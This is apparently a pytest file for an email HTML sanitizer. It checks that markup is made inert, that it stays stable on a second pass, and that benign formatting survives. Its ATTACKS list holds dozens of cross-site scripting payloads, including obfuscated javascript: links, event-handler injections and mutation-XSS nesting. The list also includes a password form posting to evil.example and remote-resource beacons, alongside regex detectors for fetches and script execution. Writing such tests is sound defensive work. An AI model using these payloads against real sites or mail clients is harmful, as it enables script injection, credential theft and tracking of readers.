"""HTML that was written to do something, and then does nothing."""

import re

import nh3
import pytest

from channels.email.html.inert import make_inert

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='cid:x' onload='alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><a xlink:href='javascript:alert(1)'>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='color:\\75 rl(https://evil.example)'>x</div>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    "<body background=https://evil.example/x.png onload=alert(1)>x",
    "<video src=https://evil.example/x.mp4 autoplay poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<picture><source srcset=https://evil.example/x.png></picture>",
    "<img src=//evil.example/x.png>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=https://good.example target=_top onclick=alert(1)>x</a>",
    "<isindex action=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<keygen autofocus onfocus=alert(1)>",
]
FETCHED = re.compile(
    r"""(?:\s(?:src|srcset|background|poster|data|action|xlink:href)\s*=|url\s*\(|@import|<(?:script|iframe|object|embed|link|meta|base|form|svg|math|style|video|audio)\b)""",
    re.I,
)
RUNS = re.compile(r"\son\w+\s*=|javascript:|vbscript:|data:text|expression\(", re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    for markup in (attack, f"<div>{attack}", f"<p>hello</p>{attack}<p>bye</p>", attack * 3):
        inert = make_inert(markup)
        tags = "".join(re.findall(r"<[a-z][^>]*>", re.sub(r'\s(?:title|alt)="[^"]*"', "", inert)))
        assert not FETCHED.search(tags), inert
        assert not RUNS.search(tags), inert


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaned_once_it_is_clean(attack: str) -> None:
    inert = make_inert(attack)
    again = make_inert(inert)
    assert nh3.clean(again) == nh3.clean(make_inert(again))


@pytest.mark.parametrize(
    ("markup", "inert"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ('<b>bold</b> <i style="color:red">red</i>', '<b>bold</b> <i style="color:red">red</i>'),
        ("<table><tr><td>1</table>", "<table><tbody><tr><td>1</td></tr></tbody></table>"),
        (
            '<a href="https://x.y/?a=1&b=2">x</a>',
            '<a href="https://x.y/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
        ),
        ('<a href="mailto:a@b.c">x</a>', '<a href="mailto:a@b.c" rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="tel:+85230000000">x</a>', '<a href="tel:+85230000000" rel="noopener noreferrer nofollow">x</a>'),
        ('<img src="cid:a@b" alt="photo">', '<img alt="photo" data-cid="a@b">'),
        ('<img src="CID:&lt;a@b&gt;">', '<img data-cid="a@b">'),
        ('<img src="https://x.y/z.png?a=1&amp;b=2">', '<img data-remote-src="https://x.y/z.png?a=1&amp;b=2">'),
        ('<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'),
        ('<div class="gmail_quote" id="x">q</div>', '<div class="gmail_quote" id="x">q</div>'),
        ('<blockquote type="cite" cite="https://x.y">q</blockquote>', '<blockquote type="cite">q</blockquote>'),
        ("<html><head><title>T</title></head><body>B</body></html>", "B"),
        ("漏水 &amp; 停電", "漏水 &amp; 停電"),
    ],
)
def test_what_people_wrote_stays(markup: str, inert: str) -> None:
    assert make_inert(markup) == inert


def test_a_large_picture_in_the_markup_stays_and_a_huge_one_goes() -> None:
    small, huge = ("data:image/jpeg;base64," + "A" * size for size in (600_000, 900_000))
    assert small in make_inert(f'<img src="{small}">')
    assert make_inert(f'<img src="{huge}">') == "<img>"
